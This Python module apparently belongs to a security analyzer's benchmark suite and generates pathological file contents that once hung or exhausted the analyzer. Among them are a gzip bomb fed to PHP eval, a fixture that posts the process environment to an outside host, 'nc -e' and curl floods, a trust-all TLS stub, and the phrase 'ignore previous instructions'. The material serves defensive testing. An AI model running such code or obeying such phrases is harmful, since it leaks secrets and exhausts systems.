"""Hostile file contents, generated: each kind that once hung, exhausted or blinded the analyzer (issue 15)."""
from __future__ import annotations

import base64
import gzip

from bench.obfuscated_setup import obfuscated_setup


def _php_gzbomb(inflated: int) -> bytes:
    packed = gzip.compress(b"\0" * inflated, compresslevel=9)
    return b"<?php\n$x = 1;\neval(gzdecode(base64_decode('" + base64.b64encode(packed) + b"')));\n"


def kinds(scale: float = 1.0) -> dict[str, bytes]:
    """name (with the extension that selects its language) -> content. `scale` < 1 shrinks the big ones."""
    def n(count: int) -> int:
        return max(10, int(count * scale))

    return {
        "tiny-missing-name.py": b'/"o exec =',
        "concat-chain.py": b"x = " + b"+".join(b"'x'" for _ in range(n(150_000))) + b"\nexec(x)\n",
        "deep-calls.py": b"x = " + b"f(" * n(100_000) + b"1" + b")" * n(100_000) + b"\n",
        "deep-concat.py": b"x = " + b"('a'+" * n(50_000) + b"'b'" + b")" * n(50_000) + b"\nexec(x)\n",
        "rlo-flood.py": "# \u202e".encode() + "\u202e".encode() * n(320_000) + b"\nx = 1\n",
        "prompt-curl.md": b"ignore previous instructions\n" + b"curl " * n(40_000) + b"\n",
        "comment-openers.md": b"<!--" * n(40_000) + b"\n",
        "key-headers.txt": b"-----BEGIN RSA PRIVATE KEY-----\n" * n(10_000),
        "cyrillic-names.py": "".join(f"\u0430\u0435{i} = {i}\n" for i in range(n(100_000))).encode(),
        "php-gzdecode-bomb.php": _php_gzbomb(int(1_000_000_000 * scale)),
        "deep-bidi.py": (b"x = " + b"(" * n(20_000) + "a\u202eb".encode() + b")" * n(20_000) + b"\n") * 6,
        "obfuscated-setup.py": obfuscated_setup(int(667_000 * scale)),  # the held-out PyPI setup.py's stand-in
        "ruby-decode-crash.rb": b"require 'base64'\nsystem(Base64.decode64('aWQ='))\nL.(decode64",
        # a command of thousands of words: fact cases over every argument (`also` re-tested per argument) and rule
        # patterns with unbounded gaps after curl/nc (one re.search the budget cannot interrupt); session 13
        "curl-words.sh": b"curl " * n(40_000) + b"\n",
        "nc-words.sh": b"nc " * n(40_000) + b"-e\n",
        "Dockerfile": b"FROM scratch\nRUN " + b"curl " * n(40_000) + b"\n",
        "exec-curl-words.js": b'require("child_process").exec("' + b"curl " * n(40_000) + b'");\n',
        "subclass-chain.py": b"import os\n" + b"".join(
            b"class K%d(K%d if %d else object):\n    def run(self):\n        self.data = dict(os.environ)\n"
            b"        return super().run() if %d else self.data\n" % (i, i - 1, i, i) for i in range(n(2_000)))
            + b"import requests\nrequests.post(\"https://x.io\", json=K%d().run())\n" % (n(2_000) - 1),
        # 150 methods named `get` whose parameter reaches a sink, and thousands of `d.get(k)` calls read through a
        # name the calls also fill: each method resolved every call's callee again, each read of `d` re-read every
        # call before it (4 CPU-s on 50 KB before session 17)
        "same-name-methods.py": b"import os\n" + b"".join(
            b"class C%d:\n    def get(self, x):\n        os.system(x)\n" % i for i in range(n(150)))
            + b"def main(d, k):\n" + b"".join(b"    print(d.get(k%d), d)\n" % (i % 7) for i in range(n(3_000))),
        # one regex step the budget's checks cannot reach, a kind per pattern family that backtracked (session 20;
        # the hard stop, analyze/budget_alarm, bounds any other): a table of \u escapes (3f427ee), whitespace runs
        # between overlapping repeats (an agent file's 'store', 'append'), decorators that could split anywhere,
        # line comments that could end anywhere, a camel-case alternative under (?i), '=' runs between [\s=]+ and \S*
        "escape-run.js": b'var t = "' + b"\\u0041\\u005A\\u0061" * n(20_000) + b'";\n',
        "AGENTS.md": b"# Rules\n\nstore" + b" " * n(60_000) + b"\nappend" + b"\n" * n(60_000) + b"x\n",
        "property-decorators.py": b"class A:\n    @property " + b"@ " * n(20_000) + b"\n",
        "trust-all-comments.java": b"class T implements X509TrustManager {\n  public void checkServerTrusted("
                                   b"X509Certificate[] c, String a) {" + b"//" * n(20_000) + b"\n    x();\n  }\n}\n",
        "camel-secret.c": b'char *password = "' + b"a" * n(5_000) + b'1";\n',
        "curl-data-equals.sh": b"curl -d" + b"=" * n(40_000) + b"\n",
        # one enormous line of word characters: every search for a word then a `(` re-tries from each position
        "enormous-line.js": b"var a=" + b"a" * n(400_000) + b";\n",
    }
